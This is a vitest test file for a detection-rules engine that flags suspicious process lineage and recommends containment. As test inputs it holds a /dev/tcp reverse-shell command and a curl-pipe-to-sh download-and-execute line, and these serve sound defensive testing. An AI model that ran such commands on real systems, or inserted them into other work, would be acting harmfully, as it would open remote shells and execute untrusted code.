import { describe, expect, it } from 'vitest';
import type { DetectionEvent } from '../events/detection-event.js';
import { lineageFlags } from './lineage.js';
import { evaluateRules } from './rules.js';

const settings = { suspiciousThreshold: 40, maliciousThreshold: 75, notifyAt: 'suspicious' as const };

function ev(
  p: Partial<DetectionEvent> & {
    cmd?: string;
    parent?: string;
    self?: string;
    sev?: DetectionEvent['detection']['severity'];
  },
): DetectionEvent {
  return {
    schemaVersion: 1,
    id: 'ev_1',
    source: 'generic',
    observedAt: '2026-11-26T09:00:00Z',
    receivedAt: '2026-11-26T09:00:00Z',
    host: { id: 'h', addresses: [] },
    detection: {
      ruleId: 'r',
      ruleName: 'r',
      severity: p.sev ?? 'medium',
      techniques: [],
      tactics: [],
      tags: [],
    },
    process: {
      pid: 10,
      name: p.self ?? 'bash',
      commandLine: p.cmd,
      ancestors: p.parent ? [{ name: p.parent }] : [],
    },
    raw: {},
    ...p,
  };
}

const enrich = (e: DetectionEvent) => ({
  lineage: [],
  flags: lineageFlags(e),
  techniques: [],
  attackVersion: 'x',
});

describe('lineage flags', () => {
  it('flags a shell spawned by a web server and a /dev/tcp reverse shell', () => {
    expect(lineageFlags(ev({ parent: 'nginx', cmd: 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1' }))).toEqual(
      expect.arrayContaining(['shell-spawned-by-service', 'reverse-shell-pattern']),
    );
  });
  it('flags download-and-execute and execution from /tmp', () => {
    const e = ev({ self: 'sh', cmd: 'curl -s http://x.test/a.sh | sh' });
    expect(lineageFlags(e)).toContain('download-and-execute');
    expect(lineageFlags(ev({ process: { executable: '/tmp/.x/miner', ancestors: [] } }))).toContain(
      'exec-from-writable-dir',
    );
  });
  it('does not flag a shell started from another shell', () => {
    expect(lineageFlags(ev({ parent: 'bash', cmd: 'ls -la' }))).toEqual([]);
  });
});

describe('rule set', () => {
  it('calls a reverse shell from nginx malicious, notifies, and recommends containment', () => {
    const e = ev({ parent: 'nginx', cmd: 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1', sev: 'low' });
    const d = evaluateRules(e, enrich(e), settings, 1, 't');
    expect(d.verdict).toBe('malicious');
    expect(d.actions.find((a) => a.action === 'notify-email')?.disposition).toBe('run');
    expect(d.actions.filter((a) => a.disposition === 'recommend').map((a) => a.action)).toEqual([
      'suspend-process',
      'isolate-host',
    ]);
  });
  it('closes a low-severity plain shell as benign without notifying', () => {
    const e = ev({ parent: 'bash', cmd: 'ls', sev: 'low' });
    const d = evaluateRules(e, enrich(e), settings, 1, 't');
    expect(d.verdict).toBe('benign');
    expect(d.actions).toEqual([expect.objectContaining({ action: 'notify-email', disposition: 'skip' })]);
  });
  it('never recommends, let alone runs, containment for a suspicious verdict', () => {
    const e = ev({ sev: 'high', parent: 'bash' });
    const d = evaluateRules(e, enrich(e), settings, 1, 't');
    expect(d.verdict).toBe('suspicious');
    expect(d.actions.every((a) => a.action === 'notify-email')).toBe(true);
  });
  it('keeps unknown ATT&CK ids in the reasons', () => {
    const e = ev({ sev: 'high' });
    const d = evaluateRules(
      e,
      { ...enrich(e), techniques: [{ id: 'T9999', known: false, tactics: [] }] },
      settings,
      1,
      't',
    );
    expect(d.reasons.join(' ')).toContain('T9999');
  });
});
